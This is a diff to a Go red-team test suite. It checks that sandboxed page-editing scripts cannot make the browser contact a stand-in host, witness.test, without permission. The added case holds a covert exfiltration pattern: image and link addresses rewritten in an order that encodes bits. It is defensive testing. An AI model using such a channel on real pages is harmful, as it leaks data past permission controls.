@@ -325,6 +325,8 @@ func loadsSite() http.Handler {
 <embed id="a-emb" width="9" height="9">
 <svg width="9" height="9"><defs><filter id="a-flt"><feImage id="a-feimg"/></filter></defs><image id="a-simg" width="5" height="5"/><use id="a-use"/><circle id="a-circle" r="3"/></svg>
 <a id="a-link" href="/x">link</a>
+<div id="planted" class="comment">A comment: <img src="https://witness.test/planted/0" alt="0"> <img src="https://witness.test/planted/1" alt="1"> <a href="https://witness.test/planted/link">l</a></div>
+<img id="p-img1" alt=""><img id="p-img2" alt=""><img id="p-img3" alt=""><img id="p-lazy" class="lazy" alt=""><div id="p-box"></div><div id="p-box2"></div><div id="p-box3"></div>
 <script id="a-script" type="text/x-nothing"></script>
 </div>
 `)
@@ -389,6 +391,8 @@ try {
         await dom.setHTML(await dom.query(c.target), c.html);
       } else if (c.op === 'create') {
         await dom.insert(await dom.query(c.target), await dom.create(c.spec));
+      } else if (c.op === 'clone') {
+        await dom.insert(await dom.query(c.into), await dom.clone(await dom.query(c.target), true));
       } else if (c.op === 'setAttr') {
         for (const [sel, name, value] of c.ops) {
           try { await dom.setAttr(await dom.query(sel), name, value); } catch (e) { }
@@ -466,6 +470,13 @@ func (h *loadsWorld) loadsRemixlets() []store.Remixlet {
 		}
 		all = append(all, r)
 	}
+	// The page's own images (a comment's) written again, in an order that spells bits.
+	all = append(all, rx{path: "planted", calls: []map[string]any{
+		{"op": "setAttr", "ops": [][3]string{{"#p-img1", "src", "https://witness.test/planted/1"}, {"#p-img2", "src", "https://witness.test/planted/0"}, {"#p-img3", "src", "//witness.test/planted/1"}, {"#p-lazy", "data-src", "https://witness.test/planted/0"}}},
+		{"op": "create", "target": "#p-box", "spec": map[string]any{"tag": "img", "attrs": map[string]string{"src": "https://witness.test/planted/1"}}},
+		{"op": "setHTML", "target": "#p-box2", "html": `<img src="https://witness.test/planted/0"><a href="https://witness.test/planted/link">l</a>`},
+		{"op": "clone", "target": "#planted", "into": "#p-box3"},
+	}})
 	var out []store.Remixlet
 	for n, r := range all {
 		name := "loads " + r.path
@@ -541,10 +552,13 @@ func TestRedteamLoadsCorpus(t *testing.T) {
 	leaked := map[string][]string{} // path → what reached the witness
 	control := map[string]bool{}    // "ctl/3" → reached
 	granted := map[string]bool{}    // "sheetg" → the granted vector reached granted.test
+	planted := map[string]int{}     // the comment's images: address → requests
 	var other []string
 	for _, line := range wit.requests() {
 		host, path, i, ok := witnessVector(line)
 		switch {
+		case strings.Contains(line, "witness.test/planted/"):
+			planted[strings.Fields(line)[1]]++
 		case !ok:
 			other = append(other, line)
 		case path == "ctl" || path == "hctl":
@@ -560,6 +574,16 @@ func TestRedteamLoadsCorpus(t *testing.T) {
 	}
 	if len(other) > 0 {
 		t.Errorf("requests reached the witness that name no vector:\n  %s", strings.Join(other, "\n  "))
+	}
+	// The comment's images load once each, for the page; the remixlet's writes of the same
+	// addresses (setAttr, a lazy loader's data-src, create, setHTML, a clone) ask again for none.
+	for _, a := range []string{"https://witness.test/planted/0", "https://witness.test/planted/1"} {
+		if planted[a] != 1 {
+			t.Errorf("%s was requested %d times, want once (the page's own load): a remixlet without a permission for the witness made the browser ask it again", a, planted[a])
+		}
+	}
+	if planted["https://witness.test/planted/link"] != 0 {
+		t.Errorf("the comment's link was requested: %v", planted)
 	}
 	// The reverse: what a remixlet granted fetch:granted.test may load, it loads (dom.setStyle
 	// takes no url() at all, as the seed says).
